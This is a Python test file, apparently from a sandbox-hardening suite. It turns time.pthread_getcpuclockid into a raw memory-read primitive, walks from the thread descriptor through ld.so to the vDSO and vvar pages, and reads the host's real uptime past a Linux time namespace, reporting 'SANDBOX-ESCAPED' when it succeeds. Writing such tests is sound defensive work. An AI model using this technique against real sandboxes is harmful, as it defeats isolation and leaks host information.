# expect: ok
# expect-kernel: ok
# value: 1
# ruff: noqa: SIM105, SIM115
# The time namespace shows the run clocks that start at about 1 s, but the kernel maps the vDSO's real data page
# beside the namespace's: its CLOCK_MONOTONIC seconds are the machine's uptime. Reading it takes raw memory, and
# `time.pthread_getcpuclockid` hands it out with no audit event: it takes any integer as a `pthread_t` and the C
# library answers the word at `handle + offsetof(struct pthread, tid)` (as a clock id, for any positive value). From
# the main thread's own descriptor (`threading.get_ident()`) its `list` link leads into ld.so's data, ld.so's first page
# holds its ELF header, the vDSO lies just below it and its data pages below that. The clock id keeps 29 bits of
# the word (glibc shifts the id left by 3 in an int), enough for the uptime's seconds. Only a run with a time namespace
# has anything to hide there; elsewhere (its clock past 60 s) `time.monotonic()` answers the uptime itself and the
# snippet stops before the walk (a kernel whose data pages lie elsewhere would fault it). A fresh `time` module
# (`_imp.create_builtin`, `importlib.reload`) is tried too.
import _imp
import importlib
import importlib.machinery
import threading
import time

BITS = 0x1FFFFFFF  # what of a word the clock id keeps
INT_MAX = 0x7FFFFFFF & BITS
# The first words of a shared object's ELF header on x86_64 (masked): b"\x7fELF", 64-bit little-endian version 1
# (any OS ABI), ET_DYN for EM_X86_64. Its rodata may hold the magic alone.
ELF_HEADER = ((0, 0x464C457F & BITS, BITS), (4, 0x00010102, 0xFFFFFF), (16, 0x003E0003, BITS))


def is_elf(read, tid, address):
    for offset, word, mask in ELF_HEADER:
        value = read(address + offset, tid)
        if value is None or value & mask != word:
            return False
    return True


def reader(clockid):
    """A read of the low 29 bits of a word of memory through the raw thread handle `clockid` takes (None: the word
    is zero or its top bit is set)."""
    def read(address, offset):
        try:
            value = clockid(address - offset)
        except (OSError, OverflowError, TypeError, ValueError):
            return None
        return (~(value >> 3)) & BITS
    return read


def calibrate(read):
    """The offset of the thread id in glibc's struct pthread: where a marker in a buffer of the code's own reads back."""
    marker = 0x5A17C0DE
    data = bytes(2048) + marker.to_bytes(4, "little") + bytes(2048)
    base = id(data) + bytes.__basicsize__ - 1  # the bytes' own storage
    for offset in range(0, 2048, 4):
        if read(base + 2048, offset) == marker & BITS:
            return offset, data
    return None, data


def read_page(read, tid, address):
    """The page of a user-space pointer (its top two bytes zero) from the windows around it that read back: each
    gives three whole bytes."""
    known = {}
    for k in range(-2, 5):
        value = read(address + k, tid)
        if value is not None:
            for j in range(3):
                known[k + j] = (value >> (8 * j)) & 0xFF
    if not all(i in known for i in range(1, 6)):
        return None
    return sum(known[i] << (8 * i) for i in range(1, 6)) & ~0xFFF


def uptime(clockid):
    read = reader(clockid)
    tid, _marker = calibrate(read)
    if tid is None:
        return None
    page = read_page(read, tid, threading.get_ident() + tid - 16)  # struct pthread's list, just before tid
    if page is None:
        return None
    for _ in range(512):  # down to ld.so's ELF header: its segments lie contiguous
        if is_elf(read, tid, page):
            break
        page -= 0x1000
    else:
        return None
    vdso = page - 0x2000
    if not is_elf(read, tid, vdso):
        return None
    vvar = vdso - 0x6000  # [vvar] (4 pages) and [vvar_vclock] (2) below [vdso] (Linux 6.15+)
    mode = read(vvar + 4, tid)  # the first clock base's mode: INT_MAX where the page is a time namespace's
    if mode == INT_MAX:
        return read(vvar + 0x1000 + 56, tid)  # the real page: CLOCK_MONOTONIC's seconds
    return read(vvar + 56, tid)


def check(**p):
    if time.monotonic() > 60:  # no time namespace: the clock shows the uptime itself, and the walk would find it there
        return 1
    seen = []
    modules = [time]
    try:
        modules.append(_imp.create_builtin(importlib.machinery.ModuleSpec("time", None, origin="built-in")))
    except Exception:
        pass
    try:
        modules.append(importlib.reload(time))
    except Exception:
        pass
    for module in modules:
        clockid = getattr(module, "pthread_getcpuclockid", None)
        if clockid is None:
            continue
        found = uptime(clockid)
        if found is not None:
            seen.append(found)
    own = time.monotonic()
    for found in seen:
        if found > own + 60:
            try:
                open(f"/leak/SANDBOX-ESCAPED uptime {found}")
            except Exception:
                pass
            return f"SANDBOX-ESCAPED the machine's uptime {found} s (the run's clock reads {own:.1f} s)"
    return 1
